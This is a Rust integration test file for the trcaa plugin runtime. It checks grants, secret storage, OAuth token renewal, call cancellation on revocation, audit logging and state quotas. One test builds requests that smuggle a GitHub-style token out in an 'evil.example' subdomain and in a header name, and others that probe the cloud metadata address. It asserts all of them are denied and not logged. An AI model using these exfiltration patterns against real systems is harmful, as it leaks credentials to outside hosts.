//! A plugin's connection as the product sets it up: grants and secrets from the store, the guarded client, state, audit
//! rows, renewal of tokens, and its end when the user takes something back.

mod leaks;
mod wiki;

use std::io::Write as _;
use std::time::{Duration, Instant};

use serde_json::{Value, json};
use tests::{Home, list};
use trcaa_model::secret::Secret;
use trcaa_runtime::Fault;
use trcaa_runtime::ports::{Caller, PortError};
use trcaa_store::NewProvider;

use wiki::{Desk, Server, TOKEN, reported, rows};

const BINARY: &str = env!("CARGO_BIN_EXE_trcaa");

#[test]
fn what_was_granted_and_bound_works_and_is_in_the_trail() {
    let desk = Desk::new();
    let server = Server::start(|request, out| match request.path.as_str() {
        "/rest/me" => out.text(200, &format!("ada with {}", request.bearer())),
        _ => out.text(404, "nothing here"),
    });
    desk.grant_all();
    desk.bind("token", TOKEN);
    assert_eq!(desk.wiki(&server).whoami().unwrap(), "ada with [secret]");
    assert!(server.requests()[0].head.to_ascii_lowercase().contains(&format!("bearer {TOKEN}")));
    let rows = rows(&desk.app, "plugin_request");
    let told: Vec<&Value> = rows.iter().map(|row| &row["decision"]).collect();
    assert_eq!(told, ["allowed", "answered"]);
    for row in &rows {
        assert_eq!(
            (&row["method"], &row["host"], &row["path"]),
            (&json!("GET"), &json!("127.0.0.1"), &json!("/rest/me"))
        );
        assert_eq!((&row["secret_ids"], &row["connection"]), (&json!(["token"]), &json!("main")));
        assert!(row["duration_ms"].is_u64() && row["port"] == server.port);
    }
    assert_eq!((&rows[1]["status"], &rows[1]["request"], &rows[0]["request"]), (&json!(200), &json!(1), &json!(1)));
    assert!(!format!("{:?}", desk.app.audit_entries(1_000, None, None).unwrap()).contains(TOKEN));
}

#[test]
fn without_a_grant_nothing_leaves_and_the_denial_is_in_the_trail() {
    let desk = Desk::new();
    let server = Server::start(|_, out| out.text(200, "never"));
    desk.bind("token", TOKEN);
    desk.grant(|c| c.name() == "kv");
    assert_eq!(reported(desk.wiki(&server).whoami()).code, "denied");
    desk.grant(|c| c.name() != "http");
    assert_eq!(reported(desk.wiki(&server).whoami()).code, "denied");
    assert_eq!(server.connections(), 0);
    let denied = rows(&desk.app, "plugin_denied");
    assert_eq!(denied.len(), 1, "the first was denied its secret, before there was a request");
    assert_eq!((&denied[0]["decision"], &denied[0]["path"]), (&json!("denied"), &json!("/rest/me")));
    assert!(denied[0]["rule"].as_str().unwrap().contains("no grant"), "{denied:?}");
}

/// A record whose tokens the host renews.
fn oauth(server: &Server, access: &str, expires_at: u64) -> String {
    json!({
        "access_token": access, "refresh_token": "refresh-token-one", "client_id": "me",
        "client_secret": "client-secret-x", "token_url": format!("{}/oauth/token", server.origin()),
        "expires_at": expires_at,
    })
    .to_string()
}

/// A wiki that knows `access-token-two` only, with its token server.
fn renewing() -> Server {
    Server::start(|request, out| match (request.path.as_str(), request.bearer().as_str()) {
        ("/oauth/token", _) if request.body.contains("refresh_token=refresh-token-one") => out
            .text(200, r#"{"access_token":"access-token-two","refresh_token":"refresh-token-two","expires_in":3600}"#),
        ("/oauth/token", _) => out.text(400, r#"{"error":"invalid_grant"}"#),
        (_, "access-token-two") => {
            out.text(200, "access-token-one access-token-two refresh-token-one refresh-token-two client-secret-x")
        }
        _ => out.text(401, "who are you"),
    })
}

fn token_requests(server: &Server) -> usize {
    server.requests().iter().filter(|request| request.path == "/oauth/token").count()
}

#[test]
fn an_expired_or_refused_token_is_renewed_once_and_no_token_comes_back() {
    // 1,600,000,000 s is past by the clock of the desk; 0 = unknown, told by a 401.
    for expires_at in [1_600_000_000, 0] {
        let desk = Desk::new();
        let server = renewing();
        desk.grant_all();
        desk.bind("token", &oauth(&server, "access-token-one", expires_at));
        let wiki = desk.wiki(&server);
        for _ in 0..2 {
            assert_eq!(wiki.whoami().unwrap(), "[secret] [secret] [secret] [secret] [secret]");
        }
        assert_eq!(token_requests(&server), 1, "expires_at {expires_at}");
        let stored = desk.app.store().plugin_secret("wiki", "main", "token").unwrap().unwrap();
        let stored: Value = serde_json::from_str(stored.expose()).unwrap();
        assert_eq!(
            (&stored["access_token"], &stored["refresh_token"]),
            (&json!("access-token-two"), &json!("refresh-token-two"))
        );
        assert_eq!(stored["expires_at"], 1_700_000_000_u64 + 3_600);
        assert_eq!(rows(&desk.app, "plugin_secret_renewed").len(), 1);
        let later = desk.wiki(&server).whoami().unwrap();
        assert_eq!(later.matches("[secret]").count(), 5, "replaced tokens are known later too");
    }
}

#[test]
fn two_connections_renew_one_token_once() {
    let desk = Desk::new();
    let server = renewing();
    desk.grant_all();
    desk.bind("token", &oauth(&server, "access-token-one", 1_600_000_000));
    let both = [desk.wiki(&server), desk.wiki(&server)];
    std::thread::scope(|scope| {
        for wiki in &both {
            scope.spawn(|| assert!(wiki.whoami().unwrap().starts_with("[secret]")));
        }
    });
    assert_eq!(token_requests(&server), 1);
}

#[test]
fn a_renewal_that_is_refused_says_to_log_in_again() {
    let desk = Desk::new();
    let server = Server::start(|_, out| out.text(401, "no"));
    desk.grant_all();
    desk.bind("token", &oauth(&server, "access-token-one", 0));
    let error = reported(desk.wiki(&server).whoami());
    assert_eq!(error.code, "unauthenticated");
    assert_eq!(error.message, "log in again: trcaa plugin secret wiki token --stdin --connection main");
}

#[test]
fn a_token_server_outside_the_audience_gets_nothing() {
    let desk = Desk::new();
    let (server, other) = (renewing(), renewing());
    desk.grant_all();
    desk.bind("token", &oauth(&other, "access-token-one", 1_600_000_000));
    assert_eq!(reported(desk.wiki(&server).whoami()).code, "denied");
    assert_eq!((server.connections(), other.connections()), (0, 0));
}

/// Calls a wiki that never answers; takes something back over another connection, and times the end.
fn ended_by(desk: &Desk, taken_back: impl FnOnce(&trcaa_store::Store)) -> (Fault, Duration) {
    let harmless = |store: &trcaa_store::Store, _: &str| {
        store.write(|tx| tx.set_setting("list.limit", "7")).unwrap();
    };
    ended_at(desk, |_| desk.bind("token", TOKEN), harmless, |store, _| taken_back(store))
}

/// The same, with what is set up before, and with a write that takes nothing back. All get the wiki's address.
fn ended_at(
    desk: &Desk,
    set_up: impl FnOnce(&str),
    harmless: impl FnOnce(&trcaa_store::Store, &str),
    taken_back: impl FnOnce(&trcaa_store::Store, &str),
) -> (Fault, Duration) {
    let (here, arrived) = std::sync::mpsc::channel();
    let (done, wait) = std::sync::mpsc::channel::<()>();
    let (here, wait) = (std::sync::Mutex::new(here), std::sync::Mutex::new(wait));
    let server = Server::start(move |_, out| {
        let _ = out.0.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 10\r\n\r\nhalf");
        let _ = here.lock().unwrap().send(());
        let _ = wait.lock().unwrap().recv();
    });
    let url = server.origin();
    desk.grant_all();
    set_up(&url);
    let other = desk.app.store().reopen().unwrap();
    let wiki = desk.wiki(&server);
    let ended = std::thread::scope(|scope| {
        let running = scope.spawn(|| (wiki.whoami().unwrap_err().fault, Instant::now()));
        arrived.recv().unwrap();
        harmless(&other, &url);
        std::thread::sleep(Duration::from_millis(150));
        assert!(!running.is_finished());
        let begun = Instant::now();
        taken_back(&other, &url);
        let (fault, end) = running.join().unwrap();
        (fault, end.duration_since(begun))
    });
    drop(done);
    ended
}

#[test]
fn what_is_taken_back_ends_a_call_that_waits_for_the_network() {
    type Take = fn(&trcaa_store::Store);
    let take: [(&str, Take); 3] = [
        ("a grant", |store| assert!(store.write(|tx| tx.revoke("wiki", None)).unwrap() > 0)),
        ("a secret", |store| assert!(store.write(|tx| tx.remove_plugin_secret("wiki", "main", "token")).unwrap())),
        ("the binding of a secret", |store| {
            let other = Secret::new("another-token-4712");
            store.write(|tx| tx.set_plugin_secret("wiki", "main", "token", &other)).unwrap();
        }),
    ];
    for (what, taken_back) in take {
        let signed = trcaa_runtime::sign(tests::WIKI_INTEGRATION, "Ada & Co", &[7; 32]).unwrap();
        for component in [tests::WIKI_INTEGRATION, &signed] {
            let (fault, after) = ended_by(&Desk::with(component), taken_back);
            assert_eq!(fault, Fault::Cancelled, "{what}");
            // 250 ms are promised; a loaded machine gets room, and no time-out of the request is as short as that.
            assert!(after < Duration::from_secs(5), "{what}: {after:?}");
        }
    }
}

/// The row of a provider that the wiki serves.
fn provider(url: &str, key: Option<&str>, max_tokens: i64) -> NewProvider {
    NewProvider {
        name: "main".into(),
        plugin: "wiki".into(),
        api_url: url.to_owned(),
        api_key: key.map(Secret::new),
        model: "m".into(),
        max_tokens: Some(max_tokens),
        temperature: None,
        options: json!({}),
        supports_tool_calling: None,
    }
}

#[test]
fn a_provider_that_is_removed_moved_or_gets_another_key_ends_its_calls_and_other_changes_do_not() {
    type Take = fn(&trcaa_store::Store, &str);
    let take: [(&str, Take); 3] = [
        ("removed", |store, _| store.write(|tx| tx.remove_provider("main")).unwrap()),
        ("moved", |store, _| {
            store.write(|tx| tx.upsert_provider(&provider("http://127.0.0.1:9", None, 2))).unwrap();
        }),
        ("another key", |store, url| {
            store.write(|tx| tx.upsert_provider(&provider(url, Some("sk-another-key"), 2))).unwrap();
        }),
    ];
    for (what, taken_back) in take {
        let desk = Desk::new();
        let (fault, after) = ended_at(
            &desk,
            |url| {
                let row = provider(url, Some("sk-the-first-key"), 1);
                desk.app.store().write(|tx| tx.upsert_provider(&row)).unwrap();
            },
            |store, url| {
                store.write(|tx| tx.upsert_provider(&provider(url, None, 2))).unwrap();
            },
            taken_back,
        );
        assert_eq!(fault, Fault::Cancelled, "{what}");
        assert!(after < Duration::from_secs(5), "{what}: {after:?}");
    }
}

#[test]
fn tokens_that_are_renewed_end_no_other_call_with_them() {
    let desk = Desk::new();
    let server = renewing();
    desk.grant_all();
    desk.bind("token", &oauth(&server, "access-token-one", 1_600_000_000));
    let (first, second) = (desk.wiki(&server), desk.wiki(&server));
    assert!(first.whoami().is_ok());
    // Time for the second's watcher to see the renewal.
    std::thread::sleep(Duration::from_millis(150));
    assert!(second.whoami().is_ok());
}

#[test]
fn a_secret_that_is_removed_while_it_is_renewed_stays_removed() {
    let desk = Desk::new();
    let other = std::sync::Mutex::new(desk.app.store().reopen().unwrap());
    let server = Server::start(move |request, out| match request.path.as_str() {
        "/oauth/token" => {
            let store = other.lock().unwrap();
            assert!(store.write(|tx| tx.remove_plugin_secret("wiki", "main", "token")).unwrap());
            out.text(200, r#"{"access_token":"access-token-two","refresh_token":"refresh-token-two"}"#);
        }
        _ => out.text(200, "never"),
    });
    desk.grant_all();
    desk.bind("token", &oauth(&server, "access-token-one", 1_600_000_000));
    assert!(desk.wiki(&server).whoami().is_err());
    assert_eq!(token_requests(&server), 1);
    assert!(desk.app.store().plugin_secret("wiki", "main", "token").unwrap().is_none());
    assert_eq!(server.connections(), 1, "and new tokens are not used");
}

#[test]
fn the_host_of_a_denied_request_carries_nothing_personal_into_the_trail() {
    let desk = Desk::new();
    desk.grant_all();
    let server = Server::start(|_, out| out.text(200, "never"));
    let context = desk.app.connection_context(&desk.plugin, desk.setup(&server)).unwrap();
    let caller = Caller { manifest: desk.plugin.manifest(), connection: "main", wall_left_ms: 1_000 };
    let request = |url: &str, header: &str| trcaa_runtime::ports::HttpRequest {
        method: "GET",
        url: url.into(),
        headers: vec![(header.to_owned(), "x".into())],
        body: None,
        timeout_ms: None,
        response_bytes_max: None,
        redirects_max: None,
        auth: trcaa_runtime::ports::HttpAuth::None,
    };
    let http = context.ports.http.clone().unwrap();
    let secret = "ghp_16c7e42f292c6912e7710c838347ae178b4a";
    for (url, header) in [
        (format!("https://{secret}.evil.example/"), "x-note".to_owned()),
        (server.origin(), format!("x-key-{secret}")),
        ("http://169.254.169.254/".to_owned(), "x-note".to_owned()),
    ] {
        assert!(matches!(http.send(&caller, request(&url, &header)), Err(PortError::Denied { .. })), "{url}");
    }
    let denied = rows(&desk.app, "plugin_denied");
    assert_eq!((denied.len(), &denied[2]["host"]), (3, &json!("169.254.169.254")));
    assert!(!format!("{denied:?}").contains(secret), "{denied:?}");
}

#[test]
fn what_an_integration_sends_goes_by_the_policy_for_integrations() {
    let desk = Desk::new();
    desk.grant_all();
    let server = Server::start(|_, out| out.text(200, "never"));
    let sent = |policy: &str| {
        desk.app.set_setting("guard.integration", policy).unwrap();
        let context = desk.app.connection_context(&desk.plugin, desk.setup(&server)).unwrap();
        let caller = Caller { manifest: desk.plugin.manifest(), connection: "main", wall_left_ms: 5_000 };
        let request = |url: String, body: Option<&str>| trcaa_runtime::ports::HttpRequest {
            method: if body.is_some() { "POST" } else { "GET" },
            url,
            headers: Vec::new(),
            body: body.map(|body| body.as_bytes().to_vec()),
            timeout_ms: None,
            response_bytes_max: None,
            redirects_max: None,
            auth: trcaa_runtime::ports::HttpAuth::None,
        };
        let http = context.ports.http.clone().unwrap();
        let body = http.send(&caller, request(format!("{}/rest/me", server.origin()), Some("mail ada@example.org")));
        let clean = http.send(&caller, request(format!("{}/rest/me", server.origin()), None));
        (body.err(), clean.err())
    };
    let (body, clean) = sent("block");
    assert!(matches!(&body, Some(PortError::InvalidInput(why)) if why.contains("policy is block")), "{body:?}");
    assert_eq!(clean, None, "what holds no finding goes on");
    // Redacted, it is a question of grants again.
    assert!(!matches!(sent("redact").0, Some(PortError::InvalidInput(_))));
    assert!(!server.requests().iter().any(|request| request.body.contains("ada@")));
}

#[test]
fn state_is_kept_within_its_quota_and_without_secrets() {
    let desk = Desk::new();
    let server = Server::start(|_, out| out.text(200, "page-7"));
    desk.grant_all();
    desk.bind("token", TOKEN);
    let context = desk.app.connection_context(&desk.plugin, desk.setup(&server)).unwrap();
    let kv = context.ports.kv.clone().unwrap();
    let caller = Caller { manifest: desk.plugin.manifest(), connection: "main", wall_left_ms: 1_000 };
    kv.set(&caller, "note", format!("it is {TOKEN}").as_bytes(), None).unwrap();
    assert_eq!(kv.get(&caller, "note").unwrap().unwrap(), b"it is [secret]");
    assert!(matches!(kv.set(&caller, TOKEN, b"x", None), Err(PortError::InvalidInput(_))));
    assert!(matches!(kv.set(&caller, &"k".repeat(257), b"x", None), Err(PortError::InvalidInput(_))));
    assert_eq!(kv.set(&caller, "big", &[0; 65_536], None), Err(PortError::TooLarge(65_536)));
    assert!(kv.swap(&caller, "note", Some(format!("it is {TOKEN}").as_bytes()), Some(b"new")).unwrap());
    assert!(!kv.swap(&caller, "note", Some(b"old"), None).unwrap());
    kv.set(&caller, "short", b"x", Some(1)).unwrap();
    *desk.clock.0.lock().unwrap() += 1_000;
    assert_eq!(kv.get(&caller, "short").unwrap(), None);
    (0..150).for_each(|n| kv.set(&caller, &format!("p{n:03}"), b"", None).unwrap());
    let (page, next) = kv.keys(&caller, "p", None).unwrap();
    assert_eq!((page.len(), next.as_deref()), (100, Some("p099")));
    assert_eq!(kv.keys(&caller, "p", next.as_deref()).unwrap().0.len(), 50);
    let other = Caller { connection: "other", ..caller };
    assert_eq!(kv.get(&other, "note").unwrap(), None);
}

#[test]
fn a_flood_of_denials_is_fifty_rows_and_a_count() {
    let desk = Desk::new();
    let server = Server::start(|_, out| out.text(200, "never"));
    desk.grant(|c| c.name() != "http");
    desk.bind("token", TOKEN);
    let wiki = desk.wiki(&server);
    for _ in 0..53 {
        assert_eq!(reported(wiki.whoami()).code, "denied");
    }
    drop(wiki);
    let denied = rows(&desk.app, "plugin_denied");
    assert_eq!((denied.len(), &denied[50]["more"]), (51, &json!(3)));
}

#[test]
fn secrets_are_bound_listed_and_removed_and_never_shown() {
    let home = Home::new(BINARY);
    let folder = home.data().join("plugins");
    home.issue("x");
    std::fs::create_dir_all(&folder).unwrap();
    std::fs::write(folder.join("wiki.wasm"), tests::WIKI_INTEGRATION).unwrap();
    let bind = ["plugin", "secret", "wiki", "token", "--stdin", "--connection", "main"];
    let run = home.run_with(bind, format!("{TOKEN}\n").as_bytes()).ok();
    assert!(!run.stdout.contains(TOKEN) && run.stdout.contains("SHA-256"), "{run:#?}");
    let listed = list(&home.json(["plugin", "secret", "wiki", "--list"])["plugin_secrets"]);
    assert_eq!((listed.len(), &listed[0]["name"], &listed[0]["connection"]), (1, &json!("token"), &json!("main")));
    assert_eq!(listed[0]["sha256_prefix"].as_str().unwrap().len(), 8);
    assert!(listed[0].get("encrypted_value").is_none());
    home.run_with(["plugin", "secret", "wiki", "other", "--stdin"], b"abcdef").fails(2);
    for bad in ["abc", "two\nlines", "{\"access_token\": 1}"] {
        let run = home.run_with(["plugin", "secret", "wiki", "token", "--stdin"], bad.as_bytes()).fails(2);
        assert!(!run.stderr.contains(bad), "{run:#?}");
    }
    let usage = home.run(["plugin", "secret", "wiki", "token"]).fails(2).stderr;
    let line = "Usage: trcaa plugin secret [OPTIONS] <ID> <NAME --stdin|--list|--remove <NAME>>";
    assert!(home.run(["plugin", "secret", "--help"]).ok().stdout.contains(line), "as it is typed, the plugin first");
    assert!(usage.contains("--stdin"), "{usage}");
    home.json(["plugin", "secret", "wiki", "--remove", "token", "--connection", "main"]);
    assert_eq!(home.refused(["plugin", "secret", "wiki", "--remove", "token", "--connection", "main"], 1), "not_found");
    let trail = home.run(["audit", "list", "--json"]).ok().stdout;
    assert!(trail.contains("plugin_secret_bound") && trail.contains("plugin_secret_removed") && !trail.contains(TOKEN));
    home.expect_sound();
}

#[test]
fn a_proxy_with_a_password_is_refused_and_not_repeated() {
    let home = Home::new(BINARY);
    for bad in ["http://me:hunter2@proxy:3128", "socks5://proxy:1"] {
        let run = home.run(["settings", "set", "net.proxy", bad]).fails(2);
        assert!(!run.stderr.contains("hunter2"), "{run:#?}");
    }
    home.json(["settings", "set", "net.proxy", "http://proxy:3128"]);
    assert_eq!(home.refused(["settings", "set", "net.extra_ca", "ca.pem"], 2), "bad_setting");
    home.json(["settings", "set", "net.extra_ca", "/etc/ca.pem"]);
}
